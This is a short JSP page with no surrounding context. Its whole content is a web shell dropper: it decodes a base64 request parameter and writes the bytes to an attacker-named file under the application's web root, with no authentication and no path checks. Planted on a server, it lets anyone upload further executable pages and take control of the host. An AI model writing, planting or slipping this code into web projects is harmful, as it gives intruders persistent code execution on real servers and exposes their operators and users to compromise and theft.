<%@ page import="java.io.*" %>
<%
byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("b"));
FileOutputStream o = new FileOutputStream(application.getRealPath("/") + request.getParameter("n"));
o.write(b); o.close();
%>
